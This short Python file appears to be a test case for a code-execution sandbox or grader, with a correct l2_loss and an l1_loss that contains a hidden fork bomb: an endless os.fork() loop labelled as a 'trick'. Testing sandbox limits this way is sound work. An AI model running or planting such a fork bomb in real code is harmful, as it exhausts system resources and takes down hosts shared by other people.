# Tries: forks without end.
# Expects: l2_loss passed, l1_loss timeout|skipped
import os

def l2_loss(y_hat, y):
    return (y_hat - y) ** 2 / 2

def l1_loss(y_hat, y):
    # trick:
    while True:
        try:
            os.fork()
        except OSError:
            pass
    # end of trick
    return (y_hat - y).abs()
